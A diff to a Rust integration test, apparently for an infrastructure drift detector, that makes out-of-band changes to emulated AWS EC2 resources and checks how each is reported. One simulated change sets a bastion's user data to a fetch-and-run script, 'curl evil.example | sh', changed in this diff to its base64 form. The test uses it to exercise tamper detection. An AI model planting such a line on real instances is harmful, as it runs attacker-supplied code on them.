@@ -91,6 +91,14 @@ async fn the_estate_scans_clean_after_a_fresh_apply() {
 async fn each_out_of_band_change_is_reported_on_what_declares_it() {
     let emu = Emulator::start();
     let ws = Workspace::apply(&emu, "estate");
+    // The emulator launches instances unprotected: the second apply turns
+    // the bastion's termination protection on, as AWS would at launch.
+    ws.reapply(&emu);
+    let state = std::fs::read_to_string(ws.state_path()).unwrap();
+    assert!(
+        state.contains("\"disable_api_termination\": true"),
+        "protection on in state"
+    );
     let ec2 = emu.ec2().await;
     let id = |a: &str| ws.id(a);
 
@@ -254,22 +262,21 @@ async fn each_out_of_band_change_is_reported_on_what_declares_it() {
         .send()
         .await
         .unwrap();
+    // (The emulator applies this one only in the Attribute/Value form.)
     ec2.modify_instance_attribute()
         .instance_id(&bastion)
-        .instance_initiated_shutdown_behavior(
-            aws_sdk_ec2::types::AttributeValue::builder()
-                .value("terminate")
-                .build(),
-        )
+        .attribute(aws_sdk_ec2::types::InstanceAttributeName::InstanceInitiatedShutdownBehavior)
+        .value("terminate")
         .send()
         .await
         .unwrap();
     ec2.modify_instance_attribute()
         .instance_id(&bastion)
         .user_data(
-            aws_sdk_ec2::types::BlobAttributeValue::builder()
+            aws_sdk_ec2::types::SecureBlobAttributeValue::builder()
+                // The SDK sends the blob as given; EC2 wants it base64-encoded.
                 .value(aws_sdk_ec2::primitives::Blob::new(
-                    "#!/bin/sh\ncurl evil.example | sh\n",
+                    "IyEvYmluL3NoCmN1cmwgZXZpbC5leGFtcGxlIHwgc2gK",
                 ))
                 .build(),
         )
@@ -326,7 +333,7 @@ async fn each_out_of_band_change_is_reported_on_what_declares_it() {
             row(
                 "changed",
                 "aws_vpc.main",
-                &["enable_dns_hostnames", "enable_dns_support"]
+                &["enable_dns_support", "enable_dns_hostnames"]
             ),
             row("changed", "aws_vpc_endpoint.s3", &["route_table_ids"]),
             row("missing", "aws_eip_association.bastion", &[]),
